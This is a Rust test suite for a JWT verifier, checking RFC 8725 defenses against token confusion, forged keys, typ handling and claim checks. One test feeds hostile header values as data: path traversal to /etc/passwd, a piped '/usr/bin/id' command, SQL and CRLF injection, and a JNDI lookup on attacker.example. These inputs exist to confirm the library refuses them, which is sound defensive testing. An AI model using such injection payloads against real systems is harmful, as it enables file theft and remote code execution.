//! RFC 8725, JSON Web Token Best Current Practices: ways to confuse one kind of token with another.

use serde_json::{Value, json};
use tokenring::{
    Algorithm, CompactJws, JwkSet, KeyQuery, KeySource, Policy, PublicKey, SelectedKey, TokenType,
    Verifier, VerifyError,
    testkit::{AUDIENCE, CLIENT_ID, ISSUER, Issuer, TestKey, TokenBuilder},
};

use crate::common::{
    CLAIMS, HEADER, NOW, claims_and, header_and, issuer, outcome, policy, signed, token, verifier,
    verifier_of, verify,
};

fn outcome_under(policy: Policy, token: &TokenBuilder) -> Result<(), VerifyError> {
    verifier_of(policy).verify_at(&token.mint(), NOW).map(|_| ())
}

/// A verifier of the tests' policy with the keys of `set`.
fn with_keys(set: Value) -> Verifier<JwkSet> {
    let keys = JwkSet::from_json(set.to_string().as_bytes()).unwrap();
    Verifier::new(policy(), keys).unwrap()
}

// Section 3.1 and 3.2: the algorithm is the verifier's choice.

#[test]
fn key_of_another_algorithm_is_not_used_for_rs256() {
    let token = token().mint();
    for alg in ["RS384", "PS256", "RSA-OAEP", "HS256", "none", "rs256", ""] {
        let mut jwk = issuer().keys()[0].jwk();
        jwk["alg"] = alg.into();
        let outcome = with_keys(json!({ "keys": [jwk] })).verify_at(&token, NOW).map(|_| ());
        assert_eq!(outcome, Err(VerifyError::UnknownKey), "{alg}");
    }
}

#[test]
fn key_that_is_not_for_signatures_is_not_used() {
    let token = token().mint();
    let members = [
        ("use", json!("enc")),
        ("key_ops", json!(["sign"])),
        ("key_ops", json!([])),
        ("kty", json!("oct")),
        ("kty", json!("EC")),
    ];
    for (member, value) in members {
        let mut jwk = issuer().keys()[0].jwk();
        jwk[member] = value;
        let outcome = with_keys(json!({ "keys": [jwk] })).verify_at(&token, NOW).map(|_| ());
        assert_eq!(outcome, Err(VerifyError::UnknownKey), "{member}");
    }
}

#[test]
fn symmetric_key_of_the_same_kid_changes_nothing() {
    let jwk = issuer().keys()[0].jwk();
    let secret = json!({"kty": "oct", "alg": "HS256", "kid": jwk["kid"], "k": "AAAA"});
    let keys = with_keys(json!({ "keys": [secret, jwk] }));
    assert_eq!(keys.verify_at(&token().mint(), NOW).map(|_| ()), Ok(()));
    assert_eq!(
        keys.verify_at(&token().header("alg", "HS256").mint(), NOW).map(|_| ()),
        Err(VerifyError::AlgorithmNotAccepted)
    );
}

// Section 3.8: a key is bound to its issuer. Attackers and other issuers have keys of their own.

#[test]
fn attacker_under_any_kid_is_refused() {
    let forged =
        |kid: &str| outcome(&token().header("kid", kid).forged_by(&TestKey::attacker()).mint());
    for key in issuer().keys() {
        assert_eq!(forged(key.kid()), Err(VerifyError::BadSignature));
    }
    assert_eq!(forged("attacker"), Err(VerifyError::UnknownKey));
    assert_eq!(forged(""), Err(VerifyError::KeyIdLength { bytes: 0 }));
    let none = token().without_header("kid").forged_by(&TestKey::attacker()).mint();
    assert_eq!(outcome(&none), Err(VerifyError::AmbiguousKey));
}

#[test]
fn token_of_another_issuer_is_refused_even_if_it_calls_itself_ours() {
    let other = Issuer::with_keys("https://other.example/", vec![TestKey::attacker()]);
    let its_own = other.token_at(NOW);
    assert_eq!(outcome(&its_own.mint()), Err(VerifyError::UnknownKey));
    assert_eq!(outcome(&its_own.clone().issuer(ISSUER).mint()), Err(VerifyError::UnknownKey));
    // The same with one of our `kid`s.
    let kid = issuer().keys()[0].kid().to_owned();
    assert_eq!(
        outcome(&its_own.issuer(ISSUER).header("kid", kid).mint()),
        Err(VerifyError::BadSignature)
    );
}

#[test]
fn our_key_does_not_vouch_for_another_issuer() {
    let token = token().issuer("https://other.example/");
    assert_eq!(outcome(&token.mint()), Err(VerifyError::WrongIssuer));
    // Two tenants: each verifier knows the keys of its own issuer only.
    let other = Issuer::with_keys("https://other.example/", vec![TestKey::attacker()]);
    let keys = JwkSet::from_json(other.jwks().as_bytes()).unwrap();
    let of_other = Verifier::new(Policy::new(other.url(), AUDIENCE), keys).unwrap();
    let good_there = other.token_at(NOW).mint();
    assert_eq!(of_other.verify_at(&good_there, NOW).map(|_| ()), Ok(()));
    assert_eq!(outcome(&good_there), Err(VerifyError::UnknownKey));
    let good_here = crate::common::token().mint();
    assert_eq!(of_other.verify_at(&good_here, NOW).map(|_| ()), Err(VerifyError::UnknownKey));
}

// Section 3.10: the header's statements about keys are not trusted.

#[test]
fn kid_is_a_name_and_nothing_else() {
    for kid in [
        "https://attacker.example/key.pem",
        "../../../../../../etc/passwd",
        "|/usr/bin/id",
        "x' UNION SELECT 'key';--",
        "a\r\nX-Injected: 1",
        "__proto__",
        "${jndi:ldap://attacker.example/}",
        "\0",
        "*",
    ] {
        let token = token().header("kid", kid).forged_by(&TestKey::attacker()).mint();
        assert_eq!(outcome(&token), Err(VerifyError::UnknownKey), "{kid:?}");
    }
}

#[test]
fn embedded_key_is_not_used_even_if_there_is_no_other() {
    let attacker = TestKey::attacker();
    let token = token().header("jwk", attacker.jwk()).key(&attacker).mint();
    let outcome = with_keys(json!({ "keys": [] })).verify_at(&token, NOW).map(|_| ());
    assert_eq!(outcome, Err(VerifyError::UnknownKey));
}

#[test]
fn token_without_kid_is_verified_by_the_only_key_there_is() {
    let keys = issuer().keys().to_vec();
    let token = token().without_header("kid");
    let only = with_keys(json!({ "keys": [keys[0].jwk()] }));
    let verified = only.verify_at(&token.mint(), NOW).unwrap();
    assert_eq!(verified.key_id(), Some(keys[0].kid()));
    // Unusable keys do not count.
    let mut encryption = keys[1].jwk();
    encryption["use"] = "enc".into();
    let one_usable = with_keys(json!({ "keys": [encryption, keys[0].jwk(), {"kty": "EC"}] }));
    assert_eq!(one_usable.verify_at(&token.mint(), NOW).map(|_| ()), Ok(()));
    // A repeated key counts once.
    let twice = with_keys(json!({ "keys": [keys[0].jwk(), keys[0].jwk()] }));
    assert_eq!(twice.verify_at(&token.mint(), NOW).map(|_| ()), Ok(()));
    // The only key must be the right one.
    let wrong = with_keys(json!({ "keys": [keys[1].jwk()] }));
    assert_eq!(wrong.verify_at(&token.mint(), NOW).map(|_| ()), Err(VerifyError::BadSignature));
}

#[test]
fn token_without_kid_needs_exactly_one_key() {
    let keys = issuer().keys().to_vec();
    let token = token().without_header("kid").mint();
    let outcome = |set| with_keys(set).verify_at(&token, NOW).map(|_| ());
    assert_eq!(
        outcome(json!({ "keys": [keys[0].jwk(), keys[1].jwk()] })),
        Err(VerifyError::AmbiguousKey)
    );
    assert_eq!(
        outcome(json!({ "keys": [keys[0].jwk(), keys[0].with_kid("other").jwk()] })),
        Ok(()),
        "one key under two names"
    );
    assert_eq!(outcome(json!({ "keys": [] })), Err(VerifyError::UnknownKey));
}

#[test]
fn key_without_kid_does_not_match_a_kid() {
    let mut jwk = issuer().keys()[0].jwk();
    jwk.as_object_mut().unwrap().remove("kid");
    let keys = with_keys(json!({ "keys": [jwk] }));
    assert_eq!(keys.verify_at(&token().mint(), NOW).map(|_| ()), Err(VerifyError::UnknownKey));
    let verified = keys.verify_at(&token().without_header("kid").mint(), NOW).unwrap();
    assert_eq!(verified.key_id(), None);
}

#[test]
fn kid_of_two_different_keys_is_ambiguous_whatever_their_order() {
    let keys = issuer().keys().to_vec();
    let (first, second) = (keys[0].jwk(), keys[1].with_kid(keys[0].kid()).jwk());
    for set in [json!({ "keys": [first, second] }), json!({ "keys": [second, first] })] {
        assert_eq!(
            with_keys(set).verify_at(&token().mint(), NOW).map(|_| ()),
            Err(VerifyError::AmbiguousKey)
        );
    }
    // The other keys of the set stay usable.
    let set = json!({ "keys": [first, second, keys[2].jwk()] });
    let other = token().key(&keys[2]).mint();
    assert_eq!(with_keys(set).verify_at(&other, NOW).map(|_| ()), Ok(()));
}

#[test]
fn key_of_the_callers_choice_verifies_and_the_policy_decides() {
    let key = PublicKey::from_jwk(issuer().keys()[0].jwk().to_string().as_bytes()).unwrap();
    let judge = |token: &TokenBuilder| {
        let token = token.mint();
        let payload = CompactJws::parse(&token)?.verify(&key)?;
        verifier().check_at(payload, NOW).map(|_| ())
    };
    assert_eq!(judge(&token()), Ok(()));
    assert_eq!(judge(&token().forged_by(&TestKey::attacker())), Err(VerifyError::BadSignature));
    assert_eq!(judge(&token().issuer("other")), Err(VerifyError::WrongIssuer));
    // `typ` is in the header, and reaches the policy all the same.
    assert_eq!(judge(&token().header("typ", "logout+jwt")), Err(VerifyError::TokenTypeNotAccepted));
}

#[test]
fn key_source_behind_a_reference_is_the_same_source() {
    let keys = JwkSet::from_json(issuer().jwks().as_bytes()).unwrap();
    let shared: std::sync::Arc<dyn KeySource> = std::sync::Arc::new(keys.clone());
    let (good, bad) = (token().mint(), token().header("kid", "other").mint());
    let by_reference = Verifier::new(policy(), &keys).unwrap();
    let by_arc = Verifier::new(policy(), shared).unwrap();
    assert_eq!(by_reference.verify_at(&good, NOW).map(|_| ()), Ok(()));
    assert_eq!(by_arc.verify_at(&good, NOW).map(|_| ()), Ok(()));
    assert_eq!(by_reference.verify_at(&bad, NOW).map(|_| ()), Err(VerifyError::UnknownKey));
    assert_eq!(by_arc.verify_at(&bad, NOW).map(|_| ()), Err(VerifyError::UnknownKey));
    // It also confirms the key of a token in the cache.
    let issuer = issuer();
    let [first, second, ..] = issuer.keys() else { panic!() };
    let query = KeyQuery::new(Some(first.kid()), Algorithm::RS256);
    let key = |key: &TestKey| {
        SelectedKey::from(PublicKey::from_jwk(key.jwk().to_string().as_bytes()).unwrap())
    };
    let (reference, arc) = (&keys, std::sync::Arc::new(keys.clone()));
    let sources: [&dyn KeySource; 2] = [&reference, &arc];
    for source in sources {
        assert!(source.confirms(&key(first), query));
        assert!(!source.confirms(&key(second), query));
    }
}

// Section 3.11: explicit typing.

/// Values of `typ`, each with whether it is accepted under [`TokenType::Jwt`],
/// [`TokenType::AccessToken`] and [`TokenType::IdToken`].
const TYPES: [(&str, [bool; 3]); 51] = [
    ("JWT", [true, false, true]),
    ("jwt", [true, false, true]),
    ("Jwt", [true, false, true]),
    ("application/jwt", [true, false, true]),
    ("application/JWT", [true, false, true]),
    ("APPLICATION/jwt", [true, false, true]),
    ("at+jwt", [true, true, false]),
    ("AT+JWT", [true, true, false]),
    ("At+Jwt", [true, true, false]),
    ("application/at+jwt", [true, true, false]),
    ("Application/AT+jwt", [true, true, false]),
    ("id_token+jwt", [false, false, true]),
    ("ID_Token+JWT", [false, false, true]),
    ("application/id_token+jwt", [false, false, true]),
    // Other kinds of token.
    ("id_token+jwt ", [false, false, false]),
    ("id-token+jwt", [false, false, false]),
    ("id_token", [false, false, false]),
    ("dpop+jwt", [false, false, false]),
    ("logout+jwt", [false, false, false]),
    ("secevent+jwt", [false, false, false]),
    ("token-introspection+jwt", [false, false, false]),
    ("oauth-authz-req+jwt", [false, false, false]),
    ("client-authentication+jwt", [false, false, false]),
    ("entity-statement+jwt", [false, false, false]),
    ("vc+sd-jwt", [false, false, false]),
    ("dc+sd-jwt", [false, false, false]),
    ("kb+jwt", [false, false, false]),
    ("passport", [false, false, false]),
    ("rt+jwt", [false, false, false]),
    ("JOSE", [false, false, false]),
    ("JOSE+JSON", [false, false, false]),
    ("JWE", [false, false, false]),
    ("JWS", [false, false, false]),
    // Values similar to the accepted ones.
    ("", [false, false, false]),
    (" ", [false, false, false]),
    ("JWT ", [false, false, false]),
    (" JWT", [false, false, false]),
    ("JWT\0", [false, false, false]),
    ("at+jwt ", [false, false, false]),
    ("at jwt", [false, false, false]),
    ("at-jwt", [false, false, false]),
    ("+jwt", [false, false, false]),
    ("jwt; charset=utf-8", [false, false, false]),
    ("application/", [false, false, false]),
    ("application/application/jwt", [false, false, false]),
    ("/jwt", [false, false, false]),
    ("text/jwt", [false, false, false]),
    // Other types of the same length as `application/`.
    ("video/other+jwt", [false, false, false]),
    ("video/other+at+jwt", [false, false, false]),
    // Only ASCII case is folded.
    ("aſ+jwt", [false, false, false]),
    ("ÀPPLICATION/jwt", [false, false, false]),
];

#[test]
fn typ_decides_what_a_token_may_be_used_for() {
    for (typ, accepted) in TYPES {
        let token = token().header("typ", typ);
        for (token_type, accepted) in
            [TokenType::Jwt, TokenType::AccessToken, TokenType::IdToken].into_iter().zip(accepted)
        {
            let expected = if accepted { Ok(()) } else { Err(VerifyError::TokenTypeNotAccepted) };
            assert_eq!(
                outcome_under(policy().token_type(token_type.clone()), &token),
                expected,
                "{typ:?} as {token_type:?}"
            );
        }
    }
}

#[test]
fn absent_typ_is_accepted_unless_the_policy_asks_for_access_tokens() {
    let token = token().without_header("typ");
    assert_eq!(outcome_under(policy(), &token), Ok(()));
    assert_eq!(outcome_under(policy().token_type(TokenType::Jwt), &token), Ok(()));
    assert_eq!(
        outcome_under(policy().token_type(TokenType::AccessToken), &token),
        Err(VerifyError::TokenTypeNotAccepted)
    );
    assert_eq!(outcome_under(policy().token_type(TokenType::IdToken), &token), Ok(()));
    assert_eq!(
        outcome_under(policy().token_type(TokenType::Named("JWT".into())), &token),
        Err(VerifyError::TokenTypeNotAccepted)
    );
    assert_eq!(TokenType::default(), TokenType::Jwt);
}

#[test]
fn type_of_an_issuers_own_is_accepted_if_the_policy_names_it() {
    let named = |name: &str| policy().token_type(TokenType::Named(name.into()));
    for (name, typ, is_accepted) in [
        ("JOSE", "JOSE", true),
        ("JOSE", "jose", true),
        ("jose", "application/JOSE", true),
        ("application/jose", "JOSE", true),
        ("APPLICATION/jose", "application/jose", true),
        ("okta-internal-at+jwt", "okta-internal-at+jwt", true),
        ("okta-internal-at+jwt", "at+jwt", false),
        ("JOSE", "JWT", false),
        ("JOSE", "JOSE ", false),
        ("JOSE", "JOSE+JSON", false),
        ("JOSE", "text/JOSE", false),
        ("JOSE", "application/application/JOSE", false),
        ("JOSE", "", false),
        ("at+jwt", "at+jwt", true),
        ("at+jwt", "JWT", false),
        ("JWT", "at+jwt", false),
    ] {
        let expected = if is_accepted { Ok(()) } else { Err(VerifyError::TokenTypeNotAccepted) };
        let token = token().header("typ", typ);
        assert_eq!(outcome_under(named(name), &token), expected, "{typ} as {name}");
    }
}

#[cfg(feature = "std")]
#[test]
fn accepted_token_says_its_typ_and_algorithm_as_they_are_in_the_header() {
    let any_case = "application/OKTA-internal-at+jwt";
    let named = || TokenType::Named("okta-internal-at+jwt".into());
    for (token_type, typ) in [
        (TokenType::Jwt, "JWT"),
        (TokenType::Jwt, "jWt"),
        (TokenType::Jwt, "application/at+jwt"),
        (TokenType::AccessToken, "at+jwt"),
        (TokenType::IdToken, "id_token+jwt"),
        (named(), any_case),
    ] {
        let token = token().header("typ", typ).mint();
        let verifier = verifier_of(policy().token_type(token_type))
            .with_token_cache(std::num::NonZeroUsize::new(4).unwrap());
        // The second time, from the cache.
        for _ in 0..2 {
            let verified = verifier.verify_at(&token, NOW).unwrap();
            assert_eq!(verified.token_type(), Some(typ));
            assert_eq!(verified.algorithm(), Algorithm::RS256);
        }
    }
    let untyped = verify(&token().without_header("typ").mint()).unwrap();
    assert_eq!(untyped.token_type(), None);
    let issuer = Issuer::for_algorithm(ISSUER, Algorithm::ES384);
    let keys = JwkSet::from_json(issuer.jwks().as_bytes()).unwrap();
    let verifier = Verifier::new(policy().algorithms([Algorithm::ES384]), keys).unwrap();
    let token = issuer.token_at(NOW).mint();
    let verified = verifier.verify_at(&token, NOW).unwrap();
    assert_eq!(verified.algorithm(), Algorithm::ES384);
}

#[test]
fn typ_that_is_not_a_string_is_refused() {
    for typ in ["null", "true", "1", r#"["JWT"]"#, "{}", "[]"] {
        let header = HEADER.replace(r#""typ":"JWT""#, &format!(r#""typ":{typ}"#));
        assert_eq!(
            outcome(&signed(header, token().payload_json())),
            Err(VerifyError::HeaderType { parameter: "typ" }),
            "{typ}"
        );
    }
}

#[test]
fn typ_in_the_payload_is_not_the_token_type() {
    let token = token().claim("typ", "logout+jwt");
    assert_eq!(outcome_under(policy(), &token), Ok(()));
    let token = crate::common::token().without_header("typ").claim("typ", "at+jwt");
    assert_eq!(
        outcome_under(policy().token_type(TokenType::AccessToken), &token),
        Err(VerifyError::TokenTypeNotAccepted)
    );
}

// Section 3.12: other kinds of tokens, all signed with the issuer's key.

#[test]
fn other_tokens_of_the_same_issuer_are_not_access_tokens() {
    let bare = || {
        ["sub", "aud", "exp", "azp", "scope", "permissions", "iat"]
            .into_iter()
            .fold(token(), TokenBuilder::without_claim)
    };
    let exp = NOW.as_secs() + 600;
    let event = json!({"http://schemas.openid.net/event/backchannel-logout": {}});
    let cases = [
        // OpenID Connect Core section 2: its audience is the client.
        (
            "ID token",
            bare().claim("sub", "s").claim("aud", CLIENT_ID).claim("exp", exp).claim("nonce", "n"),
            VerifyError::WrongAudience,
        ),
        (
            "ID token for several audiences",
            bare().claim("aud", json!([CLIENT_ID, "other"])).claim("exp", exp),
            VerifyError::WrongAudience,
        ),
        // OpenID Connect Back-Channel Logout section 2.4.
        (
            "logout token",
            bare().header("typ", "logout+jwt").audience(AUDIENCE).claim("exp", exp),
            VerifyError::TokenTypeNotAccepted,
        ),
        (
            "logout token without typ, for the client",
            bare().claim("aud", CLIENT_ID).claim("events", event.clone()).claim("exp", exp),
            VerifyError::SecurityEvent,
        ),
        // RFC 8417: no `exp`.
        (
            "security event token without typ",
            bare().audience(AUDIENCE).claim("events", event),
            VerifyError::ClaimMissing { claim: "exp" },
        ),
        // RFC 9449 section 4.2: neither `iss` nor `aud`.
        (
            "DPoP proof",
            bare()
                .header("typ", "dpop+jwt")
                .without_claim("iss")
                .claim("jti", "j")
                .claim("htm", "GET")
                .claim("htu", AUDIENCE),
            VerifyError::ClaimMissing { claim: "iss" },
        ),
        // RFC 7523 section 3: `iss` is the client.
        (
            "client assertion",
            bare().issuer(CLIENT_ID).subject(CLIENT_ID).audience(ISSUER).claim("exp", exp),
            VerifyError::WrongIssuer,
        ),
        // RFC 9701 section 5.
        (
            "introspection response",
            bare()
                .header("typ", "token-introspection+jwt")
                .audience(AUDIENCE)
                .claim("exp", exp)
                .claim("token_introspection", json!({"active": true})),
            VerifyError::TokenTypeNotAccepted,
        ),
        (
            "user info response",
            bare().subject("s").audience(CLIENT_ID).claim("email", "a@example.com"),
            VerifyError::ClaimMissing { claim: "exp" },
        ),
        (
            "access token for the user info endpoint only",
            token().audience("https://tenant.example.auth0.com/userinfo"),
            VerifyError::WrongAudience,
        ),
    ];
    for (what, token, error) in cases {
        assert_eq!(outcome(&token.mint()), Err(error), "{what}");
    }
}

// Section 3.12: tokens of another client. OpenID Connect Core section 2, RFC 8693 section 4.3.

#[test]
fn authorized_party_is_checked_if_the_policy_names_one() {
    let wrong = Err(VerifyError::WrongAuthorizedParty);
    let cases = [
        (r#""azp":"client""#, Ok(())),
        (r#""client_id":"client""#, Ok(())),
        (r#""azp":"client","client_id":"other""#, Ok(())),
        (r#""azp":"client","client_id":"client""#, Ok(())),
        (r#""azp":"cli\u0065nt""#, Ok(())),
        (r#""azp":"other","client_id":"client""#, wrong),
        (r#""azp":"","client_id":"client""#, wrong),
        (r#""azp":"""#, wrong),
        (r#""azp":"Client""#, wrong),
        (r#""azp":"client ""#, wrong),
        (r#""azp":"clientx""#, wrong),
        (r#""azp":"clien""#, wrong),
        (r#""azp":"client\u0000""#, wrong),
        (r#""client_id":"other""#, wrong),
        (r#""cid":"client""#, wrong),
        (r#""sub":"client@clients""#, wrong),
        (r#""appid":"client""#, wrong),
        (r#""azp":["client"]"#, Err(VerifyError::ClaimType { claim: "azp" })),
        (r#""azp":null,"client_id":"client""#, Err(VerifyError::ClaimType { claim: "azp" })),
        (r#""client_id":["client"]"#, Err(VerifyError::ClaimType { claim: "client_id" })),
    ];
    let verifier = verifier_of(policy().authorized_party("client"));
    for (members, expected) in cases {
        let token = signed(HEADER, claims_and(members));
        assert_eq!(verifier.verify_at(&token, NOW).map(|_| ()), expected, "{members}");
    }
}

#[test]
fn authorized_party_is_not_checked_if_the_policy_names_none() {
    for members in [r#""azp":"anyone""#, r#""client_id":"anyone""#, r#""azp":"""#, r#""x":1"#] {
        assert_eq!(outcome(&signed(HEADER, claims_and(members))), Ok(()), "{members}");
    }
}

// Section 3.12: tokens that are not bearer tokens. RFC 7800 section 3.1, RFC 9449 section 7.1.

#[test]
fn token_bound_to_a_key_is_refused_as_a_bearer_token() {
    let bindings = [
        json!({"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}),
        json!({"x5t#S256": "bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2"}),
        json!({"jwk": {}}),
        json!({}),
        json!({"$serde_json::private::Number": "1"}),
    ];
    for cnf in bindings {
        let token = token().claim("cnf", cnf.clone());
        assert_eq!(outcome(&token.mint()), Err(VerifyError::SenderConstrained), "{cnf}");
        assert_eq!(outcome_under(policy().allow_sender_constrained(), &token), Ok(()), "{cnf}");
    }
}

#[test]
fn cnf_that_is_not_an_object_is_refused_under_any_policy() {
    for cnf in ["null", "true", "1", "\"jkt\"", "[]", r#"[{"jkt":"a"}]"#] {
        let token = token().raw_payload(claims_and(&format!(r#""cnf":{cnf}"#)));
        let error = Err(VerifyError::ClaimType { claim: "cnf" });
        assert_eq!(outcome_under(policy(), &token), error, "{cnf}");
        assert_eq!(outcome_under(policy().allow_sender_constrained(), &token), error, "{cnf}");
    }
}

#[test]
fn cnf_in_the_header_or_at_a_deeper_level_is_ignored() {
    let header = header_and(r#""cnf":{"jkt":"a"}"#);
    assert_eq!(outcome(&signed(header, token().payload_json())), Ok(()));
    assert_eq!(outcome(&token().claim("x", json!({"cnf": {"jkt": "a"}})).mint()), Ok(()));
}

#[test]
fn registered_claims_count_only_at_the_top_level() {
    let [iss, aud, exp] = CLAIMS.map(|(name, value)| format!(r#""{name}":{value}"#));
    for payload in [
        format!(r#"{{"claims":{{{iss},{aud},{exp}}}}}"#),
        format!(r#"{{"x":[{{{iss},{aud},{exp}}}]}}"#),
    ] {
        assert_eq!(
            outcome(&signed(HEADER, payload.clone())),
            Err(VerifyError::ClaimMissing { claim: "iss" }),
            "{payload}"
        );
    }
    // Claims are not taken from the header either: RFC 7519 section 5.3 is for encrypted tokens.
    let header = header_and(&format!("{iss},{aud},{exp}"));
    assert_eq!(
        outcome(&signed(header, r#"{"x":1}"#)),
        Err(VerifyError::ClaimMissing { claim: "iss" })
    );
    let header = header_and(r#""iss":"other","aud":"other","exp":0"#);
    assert_eq!(outcome(&signed(header, token().payload_json())), Ok(()));
}

#[test]
fn checks_run_in_the_order_of_the_pipeline() {
    // A token with every fault, which are corrected one by one in the order of the checks.
    let attacker = TestKey::attacker();
    let mut token = token()
        .header("alg", "none")
        .header("kid", "")
        .header("typ", "other")
        .header("crit", json!([]))
        .forged_by(&attacker)
        .claim("cnf", json!({}))
        .claim("azp", "other")
        .claim("exp", -1)
        .claim("nbf", 9_999_999_999_u64)
        .audience(1)
        .issuer(json!(null));
    let verifier = verifier_of(policy().authorized_party(CLIENT_ID));
    let now = NOW.as_secs();
    let mut refused_until = |error, put_right: fn(TokenBuilder) -> TokenBuilder| {
        assert_eq!(verifier.verify_at(&token.mint(), NOW).map(|_| ()), Err(error));
        token = put_right(token.clone());
    };
    refused_until(VerifyError::HeaderForbidden { parameter: "crit" }, |t| t.without_header("crit"));
    refused_until(VerifyError::AlgorithmNotAccepted, |t| t.header("alg", "RS256"));
    refused_until(VerifyError::KeyIdLength { bytes: 0 }, |t| t.header("kid", "unknown"));
    refused_until(VerifyError::UnknownKey, |t| t.header("kid", issuer().keys()[0].kid()));
    refused_until(VerifyError::BadSignature, |t| t.key(&issuer().keys()[0]));
    refused_until(VerifyError::ClaimType { claim: "iss" }, |t| t.issuer("other"));
    refused_until(VerifyError::ClaimType { claim: "aud" }, |t| t.audience("other"));
    refused_until(VerifyError::ClaimRange { claim: "exp" }, |t| t.claim("exp", 7));
    refused_until(VerifyError::TokenTypeNotAccepted, |t| t.header("typ", "JWT"));
    refused_until(VerifyError::WrongIssuer, |t| t.issuer(ISSUER));
    refused_until(VerifyError::WrongAudience, |t| t.audience(AUDIENCE));
    refused_until(VerifyError::Expired { exp: 7, now }, |t| t.claim("exp", 9_999_999_999_u64));
    refused_until(VerifyError::NotYetValid { nbf: 9_999_999_999, now }, |t| t.without_claim("nbf"));
    refused_until(VerifyError::WrongAuthorizedParty, |t| t.claim("azp", CLIENT_ID));
    refused_until(VerifyError::SenderConstrained, |t| t.without_claim("cnf"));
    assert_eq!(verifier.verify_at(&token.mint(), NOW).map(|_| ()), Ok(()));
    verify(&token.mint()).unwrap();
}
